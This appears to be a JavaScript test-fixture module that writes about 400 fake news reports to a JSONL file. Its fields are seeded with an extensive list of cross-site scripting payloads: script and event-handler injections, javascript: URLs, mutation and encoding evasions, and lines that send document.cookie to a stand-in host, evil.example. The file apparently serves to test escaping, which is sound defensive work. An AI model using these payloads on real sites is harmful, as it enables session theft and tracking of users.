// Reports that want to be more than words.

import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

const SCRIPTS = ['window.attacked=1', 'alert(1)', 'fetch(`//evil.example/${document.cookie}`)', 'document.title=`attacked`', 'navigator.sendBeacon(`//evil.example/b`)'];
export const SHELLS = [
  (js) => `<script>${js}</script>`, (js) => `<ScRiPt/x>${js}</ScRiPt>`, (js) => `<img src=x onerror="${js}">`, (js) => `<img/src/onerror=${js}>`,
  (js) => `<svg onload="${js}">`, (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s>`, (js) => `<svg><script>${js}</script></svg>`, (js) => `<svg><a xlink:href="javascript:${js}"><text y=20>x</text></a></svg>`,
  (js) => `<iframe srcdoc="<script>${js}</script>">`, (js) => `<iframe src="javascript:${js}">`, (js) => `<object data="javascript:${js}">`, (js) => `<embed src="javascript:${js}">`,
  (js) => `<body onload="${js}">`, (js) => `<video><source onerror="${js}">`, (js) => `<details open ontoggle="${js}">`, (js) => `<input autofocus onfocus="${js}">`,
  (js) => `<marquee onstart="${js}">`, (js) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`, (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`, (js) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${js} src>">`,
  (js) => `"><script>${js}</script>`, (js) => `'><script>${js}</script>`, (js) => `" onmouseover="${js}" x="`, (js) => `' onmouseover='${js}' x='`,
  (js) => `</title><script>${js}</script>`, (js) => `</script><script>${js}</script>`, (js) => `</textarea><script>${js}</script>`, (js) => `]]><script>${js}</script>`,
  (js) => `<a href="javascript:${js}">a doctor</a>`, (js) => `<a href="data:text/html,<script>${js}</script>">a doctor</a>`, (js) => `<base href="//evil.example/"><script src="x.js"></script>`, () => '<link rel=stylesheet href=//evil.example/x.css>',
  () => '<style>@import "//evil.example/x.css"; body{background:url(//evil.example/b.gif)}</style>', () => '<meta http-equiv=refresh content="0;url=//evil.example/">', () => '<img src=//evil.example/beacon.gif width=1>', () => '<img srcset="//evil.example/a 1x">',
  () => '<video poster=//evil.example/p.gif>', () => '<input type=image src=//evil.example/i.gif>', () => '<audio src=//evil.example/a.ogg autoplay>', () => '<table background=//evil.example/t.gif>',
  (js) => `{{constructor.constructor('${js}')()}}`, (js) => `\${${js}}`, (js) => `<%= ${js} %>`, (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js) => `\u202e<script>${js}</script>\u202c`, (js) => `\u2028<script>${js}</script>`, (js) => `<scr\u0000ipt>${js}</scr\u0000ipt>`, (js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
];

/** Writes four hundred of them to a file, and gives its path. */
export function hostile() {
  const reports = [];
  for (const [at, shell] of SHELLS.entries()) {
    for (const [nth, js] of SCRIPTS.entries()) {
      const attack = shell(js);
      reports.push({
        id: `${attack} ${at}-${nth}`, publisher: `${attack} Post`, title: `${attack} falls`, date: '2018-12-13', url: `javascript:${js}`,
        text: `HAJIN, December 13 - Government forces shelled the market of ${attack} in Hajin on Wednesday, killing four members of ${attack}, a doctor from ${attack} said. Air strikes killed two civilians in Hajin on Tuesday.\n\n${attack}\n`,
      });
    }
  }
  while (reports.length < 400) reports.push({ ...reports[reports.length % 200], id: `again ${reports.length}`, text: `${reports[reports.length % 200].text} Again ${reports.length}.` });
  const path = join(process.env.WORK, 'hostile.jsonl');
  writeFileSync(path, reports.map((report) => JSON.stringify(report)).join('\n'));
  return path;
}
